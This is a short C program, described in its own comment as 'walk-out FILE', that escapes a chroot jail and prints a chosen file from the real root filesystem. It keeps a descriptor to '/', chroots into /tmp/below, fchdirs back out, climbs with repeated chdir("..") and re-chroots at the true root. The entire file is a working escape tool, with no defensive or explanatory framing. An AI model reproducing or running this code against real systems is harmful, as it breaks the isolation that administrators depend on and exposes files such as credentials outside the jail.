/* walk-out FILE: leave a chroot, and print FILE of what is then /.
 *
 * The kernel stops `..` at the root directory of the process.  A process whose
 * current directory is not below its root directory never passes it, and so
 * gets up to the real root. */
#define _DEFAULT_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int failed(const char *what)
{
    perror(what);
    return 1;
}

int main(int argc, char **argv)
{
    char text[4096];
    int here = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/below", 0755);
    if (argc != 2 || here == -1)
        return failed("open");
    if (chroot("/tmp/below") == -1)         /* the root goes down, ... */
        return failed("chroot");
    if (fchdir(here) == -1)                 /* ... we stay above it */
        return failed("fchdir");
    for (int i = 0; i < 100; i++)
        if (chdir("..") == -1)
            return failed("..");
    if (chroot(".") == -1)
        return failed("chroot(.)");

    int file = open(argv[1], O_RDONLY);
    if (file == -1)
        return failed(argv[1]);
    ssize_t size = read(file, text, sizeof text);
    return size > 0 && write(1, text, (size_t)size) == size ? 0 : 1;
}
